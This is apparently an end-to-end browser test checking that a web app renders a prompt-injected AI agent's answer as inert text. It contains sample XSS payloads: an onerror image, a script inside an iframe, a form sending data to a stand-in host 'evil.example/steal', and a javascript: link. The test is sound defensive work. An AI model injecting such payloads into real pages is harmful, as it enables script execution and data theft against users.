"""An answer is untrusted text (a prompt-injected agent writes whatever it is told): in the browser
its raw HTML stays text, and only http(s) links are links."""

from __future__ import annotations

from pathlib import Path

import httpx
import pytest
from selenium import webdriver
from selenium.webdriver.common.by import By
from selenium.webdriver.support import expected_conditions as ec
from selenium.webdriver.support.ui import WebDriverWait

from tests.e2e.conftest import click, screenshot, wait_text
from tests.fakes.llm_server import MODEL, FakeLLM, Turn
from tests.integration.sandbox_harness import make_origin, require_opencode
from tests.servers import RunningServer

pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

HOSTILE = "\n\n".join(
    [
        "Here is what I found.",
        '<img src=x onerror="window.__pwned = 1">',
        '<iframe srcdoc="<script>parent.__pwned = 2</script>"></iframe>',
        '<form action="https://evil.example/steal"><input name=q><button>Send</button></form>',
        "[click me](javascript:window.__pwned=3) and [the docs](https://example.com/docs)",
        "![tracker](http://127.0.0.1:9/pixel.png)",
    ]
)


def test_raw_html_in_an_answer_is_text_and_only_http_links_are_links(
    server: RunningServer, llm: FakeLLM, browser: webdriver.Chrome, tmp_path: Path
) -> None:
    require_opencode()
    headers = {"Authorization": f"Bearer {server.token}"}
    repo = httpx.post(f"{server.url}/api/repositories", json={"url": str(make_origin(tmp_path))}, headers=headers)
    # the scripted model by name: the settings test may have made another one the default
    body = {"repository_id": repo.json()["id"], "title": "Hostile", "model": f"llm/{MODEL}"}
    session = httpx.post(f"{server.url}/api/sessions", json=body, headers=headers).json()
    browser.get(f"{server.url}/sessions/{session['id']}")
    box = WebDriverWait(browser, 60).until(ec.visibility_of_element_located((By.ID, "composer")))
    wait_text(browser, "session-status", "ready", 120)
    llm.add(Turn(text=HOSTILE))
    box.send_keys("Summarise the page")
    WebDriverWait(browser, 10).until(lambda d: d.find_element(By.ID, "send").is_enabled())
    click(browser, "send")
    wait_text(browser, "timeline", "Here is what I found.", 120)
    answer = browser.find_element(By.CSS_SELECTOR, "#timeline .timeline-answer")

    # the markup is shown, not made
    for shown in ('<img src=x onerror="window.__pwned = 1">', "<iframe srcdoc=", '<form action="https://evil'):
        assert shown in answer.text
    for made in ("iframe", "form", "input", "script", "img[src]", "img[onerror]"):
        assert not answer.find_elements(By.CSS_SELECTOR, made), made
    assert browser.execute_script("return window.__pwned === undefined")

    # a javascript: link is its text only; an https link stays a link
    assert "click me" in answer.text
    assert not [a for a in answer.find_elements(By.TAG_NAME, "a") if "click me" in a.text]
    assert not [a for a in browser.find_elements(By.CSS_SELECTOR, "a[href]") if "javascript" in a.get_attribute("href")]
    [docs] = [a for a in answer.find_elements(By.TAG_NAME, "a") if a.text == "the docs"]
    assert docs.get_attribute("href") == "https://example.com/docs"
    assert answer.find_elements(By.CSS_SELECTOR, "img[alt='tracker']:not([src])")  # nothing fetched
    screenshot(browser, "answer-untrusted-html")
